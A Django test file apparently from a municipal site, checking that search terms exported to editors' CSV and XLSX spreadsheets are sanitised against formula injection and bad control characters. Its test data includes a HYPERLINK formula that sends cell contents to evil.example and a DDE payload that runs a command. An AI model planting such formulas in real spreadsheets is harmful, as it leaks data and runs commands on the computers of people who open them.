"""Text people typed (residents' searches above all) reaches editors'
spreadsheets as text: never a live formula, never a character that breaks
the file."""

from __future__ import annotations

import csv
from io import BytesIO, StringIO

import pytest
from django.contrib.auth import get_user_model

from institutions.services import institution_group_sync
from search.services import search_query_record

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我领补贴")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "领\x00养老\x0b补贴",
]


@pytest.fixture
def city_editor(client, data):
    user = get_user_model().objects.create_user("city-editor", password="x")
    user.groups.add(institution_group_sync(page=data.city))
    client.force_login(user)
    for text in HOSTILE:
        search_query_record(text=text, results=0, visitor="v1")
    return user


def test_csv_cells_from_searches_are_text(client, city_editor):
    response = client.get("/admin/statistics/?export=csv&table=unmet_demand")
    assert response.status_code == 200
    rows = list(csv.reader(StringIO(response.content.decode("utf-8-sig"))))[1:]
    cells = [row[0] for row in rows]
    assert len(cells) == len(HOSTILE)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "＝")), cell
        assert "\x00" not in cell and "\x0b" not in cell
    assert any(cell.startswith("'=hyperlink") for cell in cells)  # normalised


def test_xlsx_holds_every_search_as_a_string(client, city_editor):
    from openpyxl import load_workbook

    response = client.get("/admin/statistics/?export=xlsx")
    assert response.status_code == 200  # a NUL byte used to make this a 500
    book = load_workbook(BytesIO(response.content))
    sheet = book["没有结果的搜索词"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(HOSTILE)
    for cell in cells:
        assert cell.data_type == "s", cell.value
    values = {cell.value for cell in cells}
    assert any(value.startswith("=hyperlink") for value in values)
    assert not any("\x00" in value for value in values)


def test_characters_no_spreadsheet_can_hold_are_dropped():
    """Whatever a table holds (names from other sources too), the files open."""
    from openpyxl import load_workbook

    from stats.dashboard import Table
    from stats.exports import as_csv, as_xlsx

    table = Table("t", "名单", ["名字\x00", "数"], [["王\x00阿姨\x1f", 3], ["=1+1", 4]])
    rows = list(csv.reader(StringIO(as_csv(table).decode("utf-8-sig"))))
    assert rows == [["名字", "数"], ["王阿姨", "3"], ["'=1+1", "4"]]
    sheet = load_workbook(BytesIO(as_xlsx([table], title="x")))["名单"]
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["名字", "数"], ["王阿姨", 3], ["=1+1", 4]]  # fmt: skip
    assert sheet["A3"].data_type == "s"
